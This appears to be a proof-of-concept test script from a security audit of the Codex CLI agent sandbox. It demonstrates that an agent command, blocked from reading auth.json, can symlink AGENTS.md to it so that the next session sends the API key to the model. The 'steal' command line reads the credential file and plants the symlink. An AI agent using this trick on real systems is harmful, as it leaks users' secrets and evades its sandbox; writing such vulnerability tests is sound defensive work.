#!/usr/bin/env python3
"""Finding 06: commands cannot read $CODEX_HOME/auth.json (a /dev/null bind hides it), but a
command can make AGENTS.md a symlink to it; codex reads project docs unconfined at the next
session start and sends the API key to the model as "project instructions".

Run as: python3 docs/attack-pass/06-agents-md-symlink-reads-auth.py   (exit 1 = vulnerable)"""
import json
import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import ModelServer, Turn, run_model, shell  # noqa: E402

base = tempfile.mkdtemp(prefix="f06-")
ws = os.path.join(base, "ws")
home = tempfile.mkdtemp(prefix="f06-codex-home-", dir="/var/tmp")  # a ~/.codex outside the roots
os.makedirs(ws)
subprocess.run(["git", "init", "-q", ws], check=True)
with open(os.path.join(home, "auth.json"), "w") as fh:
    fh.write('{"OPENAI_API_KEY": "sk-THE-USERS-SECRET-KEY"}\n')
os.chmod(os.path.join(home, "auth.json"), 0o600)
steal = "cat %s/auth.json; ln -s %s/auth.json AGENTS.md && echo linked" % (home, home)
proc, outs = run_model([shell(steal), Turn().text("done")], ws, home)
print("first run, the command itself sees:", outs)
assert "sk-THE-USERS" not in "".join(outs)
with ModelServer() as server:
    server.enqueue(Turn().text("hi"))
    import harness
    subprocess.run([harness.CODEX, "exec", "--skip-git-repo-check", "-s", "workspace-write", "-C", ws,
                    "-c", 'model_provider="mock"', "-c", 'model_providers.mock.base_url="%s"' % server.url,
                    "-c", 'model_providers.mock.env_key="K"', "hello"],
                   env=dict(os.environ, K="k", CODEX_HOME=home), stdin=subprocess.DEVNULL, capture_output=True,
                   timeout=120)
    sent = json.dumps([r.body for r in server.model_requests()])
shutil.rmtree(base, ignore_errors=True)
shutil.rmtree(home, ignore_errors=True)
if "sk-THE-USERS-SECRET-KEY" in sent:
    print("VULNERABLE: the next session sent auth.json's key to the model as project instructions")
    sys.exit(1)
print("not reproduced")
